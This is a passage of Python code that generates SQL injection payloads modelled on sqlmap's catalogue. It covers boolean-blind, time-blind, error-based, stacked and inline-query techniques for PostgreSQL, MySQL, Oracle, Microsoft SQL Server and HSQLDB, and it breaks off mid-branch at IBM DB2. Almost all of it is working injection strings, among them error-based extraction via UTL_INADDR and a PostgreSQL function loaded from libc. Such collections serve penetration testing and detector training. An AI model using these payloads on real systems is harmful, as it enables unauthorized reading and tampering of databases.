        (B, "OR boolean-based blind - WHERE or HAVING clause (NOT - comment)", "generic", "cond", 1, "OR NOT %s" % INF, True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 2, "OR %d=%s" % (R, SUBQ), True),
        (B, "HAVING boolean-based blind - WHERE, GROUP BY clause", "generic", "cond", 1, "HAVING %s" % INF, False),
        (B, "Boolean-based blind - Parameter replace (original value)", "generic", "repl", 3, "(SELECT (CASE WHEN (%s) THEN {orig} ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R1, R2), False),
        (B, "Boolean-based blind - Parameter replace (DUAL)", "generic", "repl", 3, "(CASE WHEN (%s) THEN %d ELSE %s END)" % (INF, R, DUAL), False),
        (B, "Boolean-based blind - Parameter replace (DUAL - original value)", "generic", "repl", 3, "(CASE WHEN (%s) THEN {orig} ELSE %s END)" % (INF, DUAL), False),
        (B, "Boolean-based blind - Parameter replace (CASE)", "generic", "repl", 3, "(CASE WHEN %s THEN %d ELSE NULL END)" % (INF, R), False),
        (B, "Boolean-based blind - Parameter replace (CASE - original value)", "generic", "repl", 3, "(CASE WHEN %s THEN {orig} ELSE NULL END)" % INF, False),
        (B, "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 1,
         "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, o.s(rstr(r))), False),
        (B, "PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 2,
         "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, o.s(rstr(r))), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace", PG, "repl", 3, "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END))" % (INF, R), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (original value)", PG, "repl", 3, "(SELECT (CASE WHEN (%s) THEN {orig} ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)", PG, "repl", 3, "(SELECT * FROM %s LIMIT 1)" % GS, False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES - original value)", PG, "repl", 3, "(SELECT {orig} FROM %s LIMIT 1)" % GS, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (original value)", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN {orig} ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", PG, "order", 1, ",(SELECT * FROM %s LIMIT 1)" % GS, False),
        (B, "PostgreSQL boolean-based blind - Stacked queries", PG, "stack", 1, ";SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END)" % (INF, R), True),
        (B, "PostgreSQL boolean-based blind - Stacked queries (GENERATE_SERIES)", PG, "stack", 1, ";SELECT * FROM %s LIMIT 1" % GS, True),
        (TB, "PostgreSQL > 8.1 AND time-based blind", PG, "cond", 1, "AND %d=%s" % (R, CW(SL)), False),
        (TB, "PostgreSQL > 8.1 AND time-based blind (comment)", PG, "cond", 1, "AND %d=%s" % (R, CW(SL)), True),
        (TB, "PostgreSQL > 8.1 OR time-based blind", PG, "cond", 2, "OR %d=%s" % (R, CW(SL)), False),
        (TB, "PostgreSQL > 8.1 OR time-based blind (comment)", PG, "cond", 2, "OR %d=%s" % (R, CW(SL)), True),
        (TB, "PostgreSQL AND time-based blind (heavy query)", PG, "cond", 1, "AND %d=%s" % (R, CW(HQ)), False),
        (TB, "PostgreSQL AND time-based blind (heavy query - comment)", PG, "cond", 1, "AND %d=%s" % (R, CW(HQ)), True),
        (TB, "PostgreSQL OR time-based blind (heavy query)", PG, "cond", 2, "OR %d=%s" % (R, CW(HQ)), False),
        (TB, "PostgreSQL OR time-based blind (heavy query - comment)", PG, "cond", 2, "OR %d=%s" % (R, CW(HQ)), True),
        (TB, "PostgreSQL > 8.1 time-based blind - Parameter replace", PG, "repl", 3, CW(SL), False),
        (TB, "PostgreSQL time-based blind - Parameter replace (heavy query)", PG, "repl", 3, CW(HQ), False),
        (TB, "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN %s ELSE 1/(SELECT 0) END))" % (INF, SL), False),
        (TB, "PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN %s ELSE 1/(SELECT 0) END))" % (INF, HQ), False),
        (EB, "PostgreSQL AND error-based - WHERE or HAVING clause", PG, "cond", 1, "AND %d=%s" % (R, ERR), False),
        (EB, "PostgreSQL OR error-based - WHERE or HAVING clause", PG, "cond", 2, "OR %d=%s" % (R, ERR), False),
        (EB, "PostgreSQL error-based - Parameter replace", PG, "repl", 3, "(%s)" % ERR, False),
        (EB, "PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", PG, "repl", 3, "(%s)" % ERRGS, False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause", PG, "order", 1, ",(%s)" % ERR, False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause (GENERATE_SERIES)", PG, "order", 1, ",(%s)" % ERRGS, False),
        (SQ, "PostgreSQL > 8.1 stacked queries (comment)", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % SLEEP), True),
        (SQ, "PostgreSQL > 8.1 stacked queries", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % SLEEP), False),
        (SQ, "PostgreSQL stacked queries (heavy query)", PG, "stack", 1, ";SELECT %s" % (CW(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), False),
        (SQ, "PostgreSQL stacked queries (heavy query - comment)", PG, "stack", 1, ";SELECT %s" % (CW(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), True),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc)", PG, "stack", 1,
         ";SELECT %s" % CW("(SELECT %d FROM SLEEP(%d))" % (R, SLEEP)) if vector else
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % SLEEP, False),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc - comment)", PG, "stack", 1,
         ";SELECT %s" % CW("(SELECT %d FROM SLEEP(%d))" % (R, SLEEP)) if vector else
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % SLEEP, True),
        (IQ, "Generic inline queries", "generic", "repl", 3, "(SELECT CONCAT(CONCAT(%s,(%s)),%s))" % (q(delimiter(r)), QRY if vector else "CASE WHEN (%d=%d) THEN %s ELSE %s END" % (R1, R1, q("1"), q("0")), q(delimiter(r))), False),
        (IQ, "PostgreSQL inline queries", PG, "repl", 3, "(SELECT %s||(%s)::text||%s)" % (D1, QRY, D2), False),
    ]


def other_tests(r, vector, o, R, R1, R2, SLEEP, dbms):
    """Tests of sqlmap's catalogue for the DBMS dbms, as its payload files spell them."""
    INF = dialect_inference(r, dbms, o) if vector else r.choice(["%d=%d" % (R1, R1)] * 4 + ["%d=%d" % (R1, R2)])
    QRY = dialect_query(r, dbms, o, vector)
    S4, S4b = rstr(r), rstr(r)
    d1, d2 = delimiter(r), delimiter(r)
    if dbms == "MySQL":
        D1, D2 = (hx(d1), hx(d2)) if r.random() < 0.4 else (q(d1), q(d2))
        CAT = "CONCAT(%s,(%s),%s)" % (D1, QRY, D2)
        qs = "(SELECT %d FROM (SELECT(SLEEP(%s)))%s)" % (R, SLEEP if not vector else "%d-(IF(%s,0,%d))" % (SLEEP, INF, SLEEP), S4)
        sl = "SLEEP(%d)" % SLEEP if not vector else "SLEEP(%d-(IF(%s,0,%d)))" % (SLEEP, INF, SLEEP)
        heavy = "(SELECT COUNT(*) FROM INFORMATION_SCHEMA.COLUMNS A, INFORMATION_SCHEMA.COLUMNS B, INFORMATION_SCHEMA.COLUMNS C WHERE 0 XOR 1)"
        hv = heavy if not vector else "IF((%s),%s,%d)" % (INF, heavy, R)
        bm = "BENCHMARK(%d000000,MD5(%s))" % (SLEEP, hx(S4))
        out = [
            (B, "AND boolean-based blind - WHERE or HAVING clause (MySQL comment)", "cond", 1, "AND %s" % INF + HASH, True),
            (B, "OR boolean-based blind - WHERE or HAVING clause (MySQL comment)", "cond", 2, "OR %s" % INF + HASH, True),
            (B, "OR boolean-based blind - WHERE or HAVING clause (NOT - MySQL comment)", "cond", 1, "OR NOT %s" % INF + HASH, True),
            (B, "MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "cond", 1, "RLIKE (SELECT (CASE WHEN (%s) THEN {orig} ELSE 0x28 END))" % INF, False),
            (B, "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (MAKE_SET)", "cond", 1, "AND MAKE_SET(%s,%d)" % (INF, R), False),
            (B, "MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (MAKE_SET)", "cond", 2, "OR MAKE_SET(%s,%d)" % (INF, R), False),
            (B, "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (ELT)", "cond", 1, "AND ELT(%s,%d)" % (INF, R), False),
            (B, "MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (ELT)", "cond", 2, "OR ELT(%s,%d)" % (INF, R), False),
            (B, "MySQL AND boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "cond", 1, "AND EXTRACTVALUE(%d,CASE WHEN (%s) THEN %d ELSE 0x3A END)" % (R, INF, R), False),
            (B, "MySQL OR boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "cond", 2, "OR EXTRACTVALUE(%d,CASE WHEN (%s) THEN %d ELSE 0x3A END)" % (R, INF, R), False),
            (B, "MySQL boolean-based blind - Parameter replace (MAKE_SET)", "repl", 3, "MAKE_SET(%s,%d)" % (INF, R), False),
            (B, "MySQL boolean-based blind - Parameter replace (MAKE_SET - original value)", "repl", 3, "MAKE_SET(%s,{orig})" % INF, False),
            (B, "MySQL boolean-based blind - Parameter replace (ELT)", "repl", 3, "ELT(%s,%d)" % (INF, R), False),
            (B, "MySQL boolean-based blind - Parameter replace (ELT - original value)", "repl", 3, "ELT(%s,{orig})" % INF, False),
            (B, "MySQL boolean-based blind - Parameter replace (bool*int)", "repl", 3, "(%s)*%d" % (INF, R), False),
            (B, "MySQL >= 5.0 boolean-based blind - ORDER BY, GROUP BY clause", "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R1, R2), False),
            (B, "MySQL >= 5.0 boolean-based blind - Stacked queries", "stack", 1, ";SELECT (CASE WHEN (%s) THEN %d ELSE %d*(SELECT %d UNION ALL SELECT %d) END)" % (INF, R, R, R, R1) + HASH, True),
            (TB, "MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "cond", 1, "AND %s" % qs, False),
            (TB, "MySQL >= 5.0.12 AND time-based blind (query SLEEP - comment)", "cond", 1, "AND %s" % qs + HASH, True),
            (TB, "MySQL >= 5.0.12 OR time-based blind (query SLEEP)", "cond", 2, "OR %s" % qs, False),
            (TB, "MySQL >= 5.0.12 AND time-based blind (SLEEP)", "cond", 1, "AND %s" % sl, False),
            (TB, "MySQL >= 5.0.12 AND time-based blind (SLEEP - comment)", "cond", 1, "AND %s" % sl + HASH, True),
            (TB, "MySQL >= 5.0.12 OR time-based blind (SLEEP - comment)", "cond", 2, "OR %s" % sl + HASH, True),
            (TB, "MySQL >= 5.0.12 RLIKE time-based blind", "cond", 1, "RLIKE %s" % sl, False),
            (TB, "MySQL >= 5.0.12 RLIKE time-based blind (query SLEEP - comment)", "cond", 1, "RLIKE %s" % qs + HASH, True),
            (TB, "MySQL AND time-based blind (ELT)", "cond", 1, "AND ELT(%s,SLEEP(%d))" % (INF, SLEEP), False),
            (TB, "MySQL OR time-based blind (ELT - comment)", "cond", 2, "OR ELT(%s,SLEEP(%d))" % (INF, SLEEP) + HASH, True),
            (TB, "MySQL > 5.0.12 AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, hv), False),
            (TB, "MySQL > 5.0.12 OR time-based blind (heavy query - comment)", "cond", 2, "OR %d=%s" % (R, hv) + HASH, True),
            (TB, "MySQL < 5.0.12 AND time-based blind (BENCHMARK)", "cond", 1, "AND %d=%s" % (R, bm if not vector else "IF((%s),%s,%d)" % (INF, bm, R)), False),
            (TB, "MySQL >= 5.0.12 time-based blind - Parameter replace (substraction)", "repl", 3, qs, False),
            (TB, "MySQL time-based blind - Parameter replace (MAKE_SET)", "repl", 3, "MAKE_SET(%s,SLEEP(%d))" % (INF, SLEEP), False),
            (TB, "MySQL time-based blind - Parameter replace (bool)", "repl", 3, "(%s AND SLEEP(%d))" % (INF, SLEEP), False),
            (TB, "MySQL >= 5.0.12 time-based blind - ORDER BY, GROUP BY clause", "order", 1, ",(SELECT (CASE WHEN (%s) THEN SLEEP(%d) ELSE %d END))" % (INF, SLEEP, R), False),
            (EB, "MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "cond", 1, "AND EXTRACTVALUE(%d,CONCAT(0x5c,%s,(%s),%s))" % (R, D1, QRY, D2), False),
            (EB, "MySQL >= 5.1 OR error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (EXTRACTVALUE)", "cond", 2, "OR EXTRACTVALUE(%d,CONCAT(0x5c,%s,(%s),%s))" % (R, D1, QRY, D2), False),
            (EB, "MySQL >= 5.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (UPDATEXML)", "cond", 1, "AND UPDATEXML(%d,CONCAT(0x2e,%s,(%s),%s),%d)" % (R, D1, QRY, D2, R1), False),
            (EB, "MySQL >= 5.5 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (BIGINT UNSIGNED)", "cond", 1,
             "AND (SELECT 2*(IF((SELECT * FROM (SELECT %s)s), 8446744073709551610, 8446744073709551610)))" % CAT, False),
            (EB, "MySQL >= 5.5 OR error-based - WHERE or HAVING clause (EXP)", "cond", 2, "OR EXP(~(SELECT * FROM (SELECT CONCAT(%s,(%s),%s,0x78))x))" % (D1, QRY, D2), False),
            (EB, "MySQL >= 5.6 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (GTID_SUBSET)", "cond", 1, "AND GTID_SUBSET(%s,%d)" % (CAT, R), False),
            (EB, "MySQL >= 5.7.8 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (JSON_KEYS)", "cond", 1,
             "AND JSON_KEYS((SELECT CONVERT((SELECT %s) USING utf8)))" % CAT, False),
            (EB, "MySQL >= 4.1 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)", "cond", 1,
             "AND ROW(%d,%d)>(SELECT COUNT(*),CONCAT(%s,(%s),%s,FLOOR(RAND(0)*2))x FROM (SELECT %d UNION SELECT %d UNION SELECT %d UNION SELECT %d)a GROUP BY x)"
             % (R, R1, D1, QRY, D2, randnum(r), randnum(r), randnum(r), randnum(r)), False),
            (EB, "MySQL >= 5.0 error-based - Parameter replace (FLOOR)", "repl", 3,
             "(SELECT %d FROM(SELECT COUNT(*),CONCAT(%s,(%s),%s,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)" % (R, D1, QRY, D2), False),
            (EB, "MySQL >= 5.1 error-based - Parameter replace (EXTRACTVALUE)", "repl", 3, "(EXTRACTVALUE(%d,CONCAT(0x5c,%s,(%s),%s)))" % (R, D1, QRY, D2), False),
            (EB, "MySQL >= 5.5 error-based - ORDER BY, GROUP BY clause (EXP)", "order", 1, ",(SELECT %d FROM (SELECT EXP(~(SELECT * FROM (SELECT CONCAT(%s,(%s),%s,0x78))x)))s)" % (R, D1, QRY, D2), False),
            (EB, "MySQL >= 5.1 error-based - ORDER BY, GROUP BY clause (UPDATEXML)", "order", 1, ",UPDATEXML(%d,CONCAT(0x2e,%s,(%s),%s),%d)" % (R, D1, QRY, D2, R1), False),
            (SQ, "MySQL >= 5.0.12 stacked queries (comment)", "stack", 1, ";SELECT %s" % ("SLEEP(%d)" % SLEEP if not vector else "IF((%s),SLEEP(%d),%d)" % (INF, SLEEP, R)) + HASH, True),
            (SQ, "MySQL >= 5.0.12 stacked queries", "stack", 1, ";SELECT %s" % ("SLEEP(%d)" % SLEEP if not vector else "IF((%s),SLEEP(%d),%d)" % (INF, SLEEP, R)), False),
            (SQ, "MySQL >= 5.0.12 stacked queries (query SLEEP - comment)", "stack", 1, ";%s" % qs + HASH, True),
            (SQ, "MySQL < 5.0.12 stacked queries (BENCHMARK - comment)", "stack", 1, ";SELECT %s" % (bm if not vector else "IF((%s),%s,%d)" % (INF, bm, R)) + HASH, True),
            (IQ, "MySQL inline queries", "repl", 3, "(SELECT %s)" % CAT, False)]
    elif dbms == "Oracle":
        D1, D2 = chrs(d1), chrs(d2)
        pipe = "DBMS_PIPE.RECEIVE_MESSAGE(%s,%d)" % (chrs(S4), SLEEP)
        heavy = "(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5)"
        CWo = lambda then: "(CASE WHEN (%s) THEN %s ELSE %d END)" % (INF, then, R) if vector else then
        out = [
            (B, "Oracle OR boolean-based blind - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "cond", 2,
             "OR %d=(SELECT (CASE WHEN (%s) THEN %d ELSE CTXSYS.DRITHSX.SN(1,%d) END) FROM DUAL)" % (R, INF, R, R), False),
            (B, "Oracle boolean-based blind - Parameter replace", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %d ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END) FROM DUAL)" % (INF, R), False),
            (B, "Oracle boolean-based blind - Parameter replace (original value)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN {orig} ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END) FROM DUAL)" % INF, False),
            (B, "Oracle boolean-based blind - ORDER BY, GROUP BY clause", "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END) FROM DUAL)" % INF, False),
            (B, "Oracle boolean-based blind - Stacked queries", "stack", 1, ";SELECT (CASE WHEN (%s) THEN %d ELSE CAST(1 AS INT)/(SELECT 0 FROM DUAL) END) FROM DUAL" % (INF, R), True),
            (TB, "Oracle AND time-based blind", "cond", 1, "AND %d=%s" % (R, CWo(pipe)), False),
            (TB, "Oracle AND time-based blind (comment)", "cond", 1, "AND %d=%s" % (R, CWo(pipe)), True),
            (TB, "Oracle OR time-based blind", "cond", 2, "OR %d=%s" % (R, CWo(pipe)), False),
            (TB, "Oracle OR time-based blind (comment)", "cond", 2, "OR %d=%s" % (R, CWo(pipe)), True),
            (TB, "Oracle AND time-based blind (heavy query - comment)", "cond", 1, "AND %d=%s" % (R, CWo(heavy)), True),
            (TB, "Oracle OR time-based blind (heavy query)", "cond", 2, "OR %d=%s" % (R, CWo(heavy)), False),
            (TB, "Oracle time-based blind - Parameter replace (DBMS_PIPE.RECEIVE_MESSAGE)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %s ELSE %d END) FROM DUAL)" % (INF, pipe, R), False),
            (TB, "Oracle time-based blind - Parameter replace (heavy queries)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %s ELSE %d END) FROM DUAL)" % (INF, heavy, R), False),
            (TB, "Oracle time-based blind - Parameter replace (DBMS_SESSION.SLEEP)", "repl", 3, "BEGIN IF (%s) THEN DBMS_SESSION.SLEEP(%d); ELSE DBMS_SESSION.SLEEP(0); END IF; END;" % (INF, SLEEP), False),
            (TB, "Oracle time-based blind - ORDER BY, GROUP BY clause (DBMS_PIPE.RECEIVE_MESSAGE)", "order", 1, ",(SELECT (CASE WHEN (%s) THEN %s ELSE %d END) FROM DUAL)" % (INF, pipe, R), False),
            (TB, "Oracle time-based blind - ORDER BY, GROUP BY clause (heavy query)", "order", 1, ",(SELECT (CASE WHEN (%s) THEN %s ELSE %d END) FROM DUAL)" % (INF, heavy, R), False),
            (EB, "Oracle AND error-based - WHERE or HAVING clause (XMLType)", "cond", 1,
             "AND %d=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||%s||(REPLACE(REPLACE(REPLACE(REPLACE((%s),CHR(32),CHR(113)),CHR(36),CHR(113)),CHR(64),CHR(113)),CHR(35),CHR(113)))||%s||CHR(62))) FROM DUAL)" % (R, D1, QRY, D2), False),
            (EB, "Oracle AND error-based - WHERE or HAVING clause (UTL_INADDR.GET_HOST_ADDRESS)", "cond", 1, "AND %d=UTL_INADDR.GET_HOST_ADDRESS(%s||(%s)||%s)" % (R, D1, QRY, D2), False),
            (EB, "Oracle OR error-based - WHERE or HAVING clause (UTL_INADDR.GET_HOST_ADDRESS)", "cond", 2, "OR %d=UTL_INADDR.GET_HOST_ADDRESS(%s||(%s)||%s)" % (R, D1, QRY, D2), False),
            (EB, "Oracle AND error-based - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "cond", 1, "AND %d=CTXSYS.DRITHSX.SN(%d,(%s||(%s)||%s))" % (R, R, D1, QRY, D2), False),
            (EB, "Oracle OR error-based - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "cond", 2, "OR %d=CTXSYS.DRITHSX.SN(%d,(%s||(%s)||%s))" % (R, R, D1, QRY, D2), False),
            (EB, "Oracle AND error-based - WHERE or HAVING clause (DBMS_UTILITY.SQLID_TO_SQLHASH)", "cond", 1, "AND %d=DBMS_UTILITY.SQLID_TO_SQLHASH((%s||(%s)||%s))" % (R, D1, QRY, D2), False),
            (EB, "Oracle error-based - Parameter replace", "repl", 3, "(SELECT UPPER(XMLType(CHR(60)||CHR(58)||%s||(%s)||%s||CHR(62))) FROM DUAL)" % (D1, QRY, D2), False),
            (EB, "Oracle error-based - ORDER BY, GROUP BY clause", "order", 1, ",(SELECT UPPER(XMLType(CHR(60)||CHR(58)||%s||(%s)||%s||CHR(62))) FROM DUAL)" % (D1, QRY, D2), False),
            (SQ, "Oracle stacked queries (DBMS_PIPE.RECEIVE_MESSAGE - comment)", "stack", 1, ";SELECT %s FROM DUAL" % CWo(pipe), True),
            (SQ, "Oracle stacked queries (DBMS_PIPE.RECEIVE_MESSAGE)", "stack", 1, ";SELECT %s FROM DUAL" % CWo(pipe), False),
            (SQ, "Oracle stacked queries (DBMS_LOCK.SLEEP - comment)", "stack", 1, ";BEGIN DBMS_LOCK.SLEEP(%d); END" % SLEEP, True),
            (SQ, "Oracle stacked queries (USER_LOCK.SLEEP)", "stack", 1, ";BEGIN USER_LOCK.SLEEP(%d); END" % (SLEEP * 100), False),
            (SQ, "Oracle stacked queries (heavy query)", "stack", 1, ";SELECT %s FROM DUAL" % CWo(heavy), False),
            (IQ, "Oracle inline queries", "repl", 3, "(SELECT %s||(%s)||%s FROM DUAL)" % (D1, QRY, D2), False)]
    elif dbms == "Microsoft SQL Server":
        D1, D2 = q(d1), q(d2)
        heavy = "(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5,sysusers AS sys6,sysusers AS sys7)"
        CWm = lambda then: "(SELECT (CASE WHEN (%s) THEN %s ELSE %d END))" % (INF, then, R) if vector else then
        V = "@" + rstr(r)
        out = [
            (B, "Microsoft SQL Server/Sybase boolean-based blind - Parameter replace (original value)", "repl", 3,
             "(SELECT (CASE WHEN (%s) THEN {orig} ELSE %d*(SELECT %d UNION ALL SELECT %d) END))" % (INF, R, R, R1), False),
            (B, "Microsoft SQL Server/Sybase boolean-based blind - ORDER BY clause", "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE %d*(SELECT %d UNION ALL SELECT %d) END))" % (INF, R, R, R1), False),
            (B, "Microsoft SQL Server/Sybase boolean-based blind - Stacked queries", "stack", 1, ";IF(%s) SELECT %d ELSE DROP FUNCTION %s" % (INF, R, S4), True),
            (TB, "Microsoft SQL Server/Sybase AND time-based blind (heavy query)", "cond", 1, "AND %d=%s" % (R, CWm(heavy)), False),
            (TB, "Microsoft SQL Server/Sybase AND time-based blind (heavy query - comment)", "cond", 1, "AND %d=%s" % (R, CWm(heavy)), True),
            (TB, "Microsoft SQL Server/Sybase OR time-based blind (heavy query)", "cond", 2, "OR %d=%s" % (R, CWm(heavy)), False),
            (TB, "Microsoft SQL Server/Sybase time-based blind (IF)", "stack", 1, ";IF(%s) WAITFOR DELAY '0:0:%d'" % (INF, SLEEP), False),
            (TB, "Microsoft SQL Server/Sybase time-based blind - Parameter replace (heavy queries)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %s ELSE %d END))" % (INF, heavy, R), False),
            (TB, "Microsoft SQL Server/Sybase time-based blind - ORDER BY clause (heavy query)", "order", 1, ",(SELECT (CASE WHEN (%s) THEN %s ELSE %d END))" % (INF, heavy, R), False),
            (EB, "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (IN)", "cond", 1, "AND %d IN (SELECT (%s+(%s)+%s))" % (R, D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase OR error-based - WHERE or HAVING clause (IN)", "cond", 2, "OR %d IN (SELECT (%s+(%s)+%s))" % (R, D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (CONVERT)", "cond", 1, "AND %d=CONVERT(INT,(SELECT %s+(%s)+%s))" % (R, D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase OR error-based - WHERE or HAVING clause (CONCAT)", "cond", 2, "OR %d=CONCAT(%s,(%s),%s)" % (R, D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase error-based - Parameter replace", "repl", 3, "(CONVERT(INT,(SELECT %s+(%s)+%s)))" % (D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase error-based - Parameter replace (integer column)", "repl", 3, "(SELECT %s+(%s)+%s)" % (D1, QRY, D2), False),
            (EB, "Microsoft SQL Server/Sybase error-based - Stacking (EXEC)", "stack", 1, ";DECLARE %s NVARCHAR(4000);SET %s=(SELECT %s+(%s)+%s);EXEC %s" % (V, V, D1, QRY, D2, V), True),
            (SQ, "Microsoft SQL Server/Sybase stacked queries (comment)", "stack", 1, ";%sWAITFOR DELAY '0:0:%d'" % ("IF(%s) " % INF if vector else "", SLEEP), True),
            (SQ, "Microsoft SQL Server/Sybase stacked queries", "stack", 1, ";%sWAITFOR DELAY '0:0:%d'" % ("IF(%s) " % INF if vector else "", SLEEP), False),
            (SQ, "Microsoft SQL Server/Sybase stacked queries (DECLARE - comment)", "stack", 1,
             ";DECLARE @x CHAR(9);SET @x=0x303a303a3%d;%sWAITFOR DELAY @x" % (SLEEP % 10, "IF(%s) " % INF if vector else ""), True),
            (SQ, "Microsoft SQL Server/Sybase stacked queries (DECLARE - no semicolon)", "stack", 1,
             " DECLARE @x CHAR(9) SET @x=0x303a303a3%d %sWAITFOR DELAY @x" % (SLEEP % 10, "IF(%s) " % INF if vector else ""), True),
            (IQ, "Microsoft SQL Server/Sybase inline queries", "repl", 3, "(SELECT %s+(%s)+%s)" % (D1, QRY, D2), False)]
    else:
        D1, D2 = q(d1), q(d2)
        out = []
        if dbms == "HSQLDB":
            h1 = "REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(%d),0),%d00000000),NULL)" % (R, SLEEP)
            h2 = "REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY(%s,NULL),0),%d00000000),NULL)" % (q("AES"), SLEEP)
            out = [(TB, "HSQLDB >= 1.7.2 AND time-based blind (heavy query)", "cond", 1, "AND CHAR(%d)=%s" % (R, h1), False),
                   (TB, "HSQLDB >= 1.7.2 OR time-based blind (heavy query - comment)", "cond", 2, "OR CHAR(%d)=%s" % (R, h1), True),
                   (TB, "HSQLDB > 2.0 AND time-based blind (heavy query)", "cond", 1, "AND %s=%s" % (q(S4), h2), False),
                   (TB, "HSQLDB > 2.0 OR time-based blind (heavy query - comment)", "cond", 2, "OR %s=%s" % (q(S4), h2), True),
                   (TB, "HSQLDB > 2.0 time-based blind - Parameter replace (heavy query)", "repl", 3, "(SELECT (CASE WHEN (%s) THEN %s ELSE %s END) FROM (VALUES(0)))" % (INF, h2, q(S4b)), False),
                   (TB, "HSQLDB >= 1.7.2 time-based blind - ORDER BY, GROUP BY clause (heavy query)", "order", 1,
                    ",(SELECT (CASE WHEN (%s) THEN (ASCII(%s)) ELSE %d/(SELECT 0 FROM INFORMATION_SCHEMA.SYSTEM_USERS) END) FROM INFORMATION_SCHEMA.SYSTEM_USERS)" % (INF, h1, R), False),
                   (SQ, "HSQLDB >= 1.7.2 stacked queries (heavy query - comment)", "stack", 1, ";CALL %s" % h1, True),
                   (SQ, "HSQLDB >= 2.0 stacked queries (heavy query)", "stack", 1, ";CALL %s" % h2, False)]
        elif dbms == "IBM DB2":
            heavy = "(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)"
